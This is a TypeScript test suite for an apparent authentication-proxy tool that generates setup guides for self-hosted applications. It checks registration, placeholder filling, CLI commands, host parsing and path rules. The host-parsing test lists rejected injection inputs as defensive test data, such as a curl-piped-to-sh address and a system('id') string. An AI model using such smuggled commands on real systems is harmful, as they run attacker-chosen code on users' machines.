import assert from "node:assert/strict";
import { existsSync, globSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, it, test } from "node:test";
import type { Application } from "../../src/apps/application.ts";
import { applications, findLike, findMatching } from "../../src/apps/applications.ts";
import { clientFor, readHost } from "../../src/apps/client.ts";
import { exampleFacts, fill, filledSettings, settingsPlace } from "../../src/apps/fill.ts";
import { writeGuide, writeIndex } from "../../src/apps/guide.ts";
import { done } from "../../src/cli/outcome.ts";
import { createProgram } from "../../src/cli/program.ts";
import { openTerminal } from "../../src/cli/terminal.ts";
import { checkNewClient } from "../../src/flows/operator/client-check.ts";
import { isProtected } from "../../src/protocol/client/client.ts";
import { coveredRules, findRule, whyNoRule } from "../../src/protocol/forward-auth/rules.ts";

const root = resolve(import.meta.dirname, "../..");
const placeholders = new Set(
  "issuer issuer_host discovery authorization token userinfo introspection keys logout host hostname client_id client_secret".split(
    " ",
  ),
);
/** Those of the applications themselves. */
const foreign = new Set(["id_token"]);

/** Every text of a data file, with where it stands. */
function textsOf(value: unknown, path = ""): readonly (readonly [path: string, text: string])[] {
  if (typeof value === "string") return [[path, value]];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => textsOf(inner, `${path}.${name}`));
}

test("every file of data is in the list, in the order of the names, and has the name of its application", () => {
  const files = globSync("*.ts", { cwd: join(root, "src/apps/entries") }).map((file) =>
    file.replace(/\.ts$/, ""),
  );
  assert.deepEqual(
    applications.map(({ name }) => name),
    files.toSorted(),
  );
  assert.ok(files.length >= 10);
});

for (const application of applications)
  describe(application.label, () => {
    const { name, connection, settings, sources, proof, traps } = application;

    it("is a client that can be registered", () => {
      const checked = checkNewClient(clientFor(application, `https://${name}.example.org`));
      assert.ok(checked.ok, JSON.stringify(checked));
      assert.equal(isProtected(checked.value), connection.kind === "header" || connection.kind === "proxy");
    });

    it("has no rule for a path that another one before it hides", () => {
      const { pathRules = [] } = clientFor(application, `https://${name}.example.org`).metadata;
      assert.deepEqual(coveredRules(pathRules), []);
    });

    it("has settings, sources with what was read there, and traps", () => {
      assert.ok(settings.length > 0 && sources.length > 0 && traps.length > 0);
      for (const { url } of sources) assert.ok(url === undefined || url.startsWith("https://"), `${url}`);
      assert.ok(
        sources.some(({ url }) => url !== undefined),
        "everything is hearsay",
      );
      assert.match(proof.on, /^20\d\d-[01]\d-[0-3]\d$/);
      if (proof.by === "test") assert.ok(existsSync(join(root, proof.test)), proof.test);
      for (const one of settings) assert.doesNotMatch(settingsPlace(one, exampleFacts(application)), /[`*]/);
    });

    it("has no placeholder that nothing fills", () => {
      const facts = { ...exampleFacts(application), clientId: "lkcid", clientSecret: "lkssecret" };
      const texts = settings.map((one) => filledSettings(one, facts)).join("\n");
      if ("redirectUris" in connection) assert.ok(texts.includes("lkcid"), "the client id is nowhere");
      assert.equal(texts.includes("lkssecret"), connection.kind === "openid" && connection.isPublic !== true);
      for (const [path, text] of textsOf(application))
        for (const [whole, word = ""] of text.matchAll(/(?<![${])\{([a-z]+(?:_[a-z]+)*)\}(?!\})/g))
          assert.ok(placeholders.has(word) || foreign.has(word), `${path}: ${whole}`);
    });

    it("has a guide that says how it is proved, in the first lines", () => {
      const guide = writeGuide(application, exampleFacts(application));
      const [, , is = "", , proved = ""] = guide.split("\n");
      assert.match(is, /^\S.*\.$/);
      const words = { documentation: "**Not run.**", hand: "**Run by hand.**", test: "**Run by a test.**" };
      assert.ok(proved.startsWith(words[proof.by]), proved);
      assert.doesNotMatch(guide, /undefined|\[object/);
    });
  });

/** The documentation of other products that connect the application: not the application’s own. */
const otherProducts = /\/(?:authelia|goauthentik|linuxserver)\/|\bpocket-id\.org\//;

test("a guide says whether nothing, a part or all of it comes from what people other than the authors published", () => {
  const proved = (sentence: RegExp) =>
    applications
      .filter((one) => sentence.test(writeGuide(one, exampleFacts(one)).split("\n")[4] ?? ""))
      .map(({ name }) => name);
  assert.deepEqual(
    proved(
      /^\*\*Not run\.\*\* .* from what others published about .*: its authors’ own documentation was not read/,
    ),
    ["claude-code", "forgejo", "glitchtip", "peertube", "plex", "synology-dsm"],
  );
  const inPart = proved(/ documentation and source of .*, and in part from what others published, on 20/);
  for (const name of ["artifactory", "awx", "drupal"]) assert.ok(inPart.includes(name), name);
  for (const name of ["bookstack", "grafana", "plex"]) assert.ok(!inPart.includes(name), name);
  assert.deepEqual(proved(/ source of the plugin OpenID Connect Generic\b/), ["wordpress"]);
  assert.match(writeIndex(applications), /: for 6 of them only from what others published/);
});

test("what the documentation of another product says about an application is marked as that", () => {
  const sources = applications.flatMap(({ sources: all }) => all);
  const others = sources.filter(({ url }) => url !== undefined && otherProducts.test(url));
  assert.ok(others.length > 5);
  assert.deepEqual(
    others.filter(({ isByOthers }) => isByOthers !== true).map(({ url }) => url),
    [],
  );
});

test("every command that a guide names exists, with every option", async () => {
  const program = await createProgram(
    { terminal: openTerminal({}), env: {}, cwd: root, runLatchkey: "latchkey", words: [], outcome: done },
    ["help"],
  );
  const commands = applications.flatMap((one) => {
    const guide = writeGuide(one, exampleFacts(one));
    return [...guide.matchAll(/latchkey ((?:client|api|user|group)\b[^`\n]*)/g)].map(
      ([, words = ""]) => words,
    );
  });
  assert.ok(commands.some((words) => words.includes("--add-path")));
  for (const words of commands) {
    const command = words
      .split(" ")
      .reduce((found, word) => found.commands.find((child) => child.name() === word) ?? found, program);
    assert.deepEqual(command.commands, [], `${words} is no whole command`);
    for (const [option] of words.replaceAll(/'[^']*'/g, "").matchAll(/(?<= )--[a-z-]+/g))
      assert.ok(
        command.options.some(({ long }) => long === option),
        words,
      );
    for (const [, rule = ""] of words.matchAll(/--add-path '([^']*)'/g))
      assert.equal(whyNoRule(rule), undefined);
  }
});

test("placeholders are filled, and braces of the application itself stay", () => {
  const facts = {
    issuer: "https://id.example",
    host: "https://a.example:8443/x",
    clientId: "c",
    clientSecret: "s",
  };
  assert.equal(
    fill("{issuer} {host} {hostname} {client_id} {keys} $X {{ user.name }} {id_token} {toString}", facts),
    "https://id.example https://a.example:8443/x a.example c https://id.example/.well-known/jwks.json $X {{ user.name }} {id_token} {toString}",
  );
});

test("the address of an application is read strictly, without the slash at its end", () => {
  const read = (text: string) => {
    const host = readHost(text);
    return host.ok ? host.value : undefined;
  };
  assert.equal(read("https://a.example"), "https://a.example");
  assert.equal(read("https://A.example:8443/x/"), "https://a.example:8443/x");
  for (const text of [
    "",
    "a.example",
    "ftp://a.example",
    "https://a.example/?x",
    "https://a.example/#x",
    "https://u@a.example",
    "https://:p@a.example",
    "javascript:alert(1)",
    // In the address of a guide, each of these would be a command, a program or a link of whoever wrote the address.
    "https://a.example/;curl$IFS//b.example|sh",
    "https://a.example/'+system('id')+'",
    "https://a.example/[help](https://b.example)",
    "https://a.example/&x",
    "https://a;b$c'd\".example",
    "https://a.example/*x*",
    "https://a.example/!x",
  ])
    assert.equal(read(text), undefined, text);
  assert.equal(
    read("https://bücher.example:8443/a_b/~c/d-e.f%20g"),
    "https://xn--bcher-kva.example:8443/a_b/~c/d-e.f%20g",
  );
  assert.equal(read("http://[::1]:3000"), "http://[::1]:3000");
});

test("a name that is nearly right leads to the application, and nonsense to none", () => {
  const names = (found: readonly Application[]) => found.map(({ name }) => name);
  assert.equal(names(findLike("graffana"))[0], "grafana");
  assert.equal(names(findLike("homeassistant"))[0], "home-assistant");
  assert.deepEqual(names(findLike("xyzzyq")), []);
  assert.ok(
    names(findMatching("wiki")).includes("bookstack") || names(findMatching("wiki")).includes("wiki-js"),
  );
  assert.equal(findMatching("").length, applications.length);
  assert.deepEqual(findMatching("xyzzyq"), []);
});

test("an application whose site is for everybody guards its administration alone, except for what the site calls", () => {
  const ghost = applications.find(({ name }) => name === "ghost");
  assert.ok(ghost);
  const { pathRules = [] } = clientFor(ghost, "https://ghost.example.org").metadata;
  const isOpen = (path: string) => {
    const found = findRule(pathRules, {
      origin: "https://ghost.example.org",
      method: "GET",
      path,
      target: path,
    });
    return found.kind === "rule" && found.rule.isPublic;
  };
  for (const path of ["/", "/about/", "/members/api/member/", "/ghost/api/content/posts/", "/ghostly"])
    assert.ok(isOpen(path), path);
  for (const path of [
    "/ghost",
    "/ghost/",
    "/ghost/api/admin/session/",
    "/GHOST/",
    "//ghost/",
    "/x/../ghost/",
  ])
    assert.ok(!isOpen(path), path);
  assert.match(
    writeGuide(ghost, exampleFacts(ghost)),
    /Only `\/ghost\/\*` asks for a sign-in, except for `\/ghost\/api\/content\/\*`, .*; all other paths are open\./,
  );
});

test("a guide names the paths that are open", () => {
  const guideOf = (name: string) => {
    const application = applications.find((one) => one.name === name);
    return application && writeGuide(application, exampleFacts(application));
  };
  assert.match(
    guideOf("navidrome") ?? "",
    /These paths are open without a sign-in: `\/rest\/\*`, `\/share\/\*`\./,
  );
  assert.doesNotMatch(guideOf("radicale") ?? "", /open without a sign-in/);
});
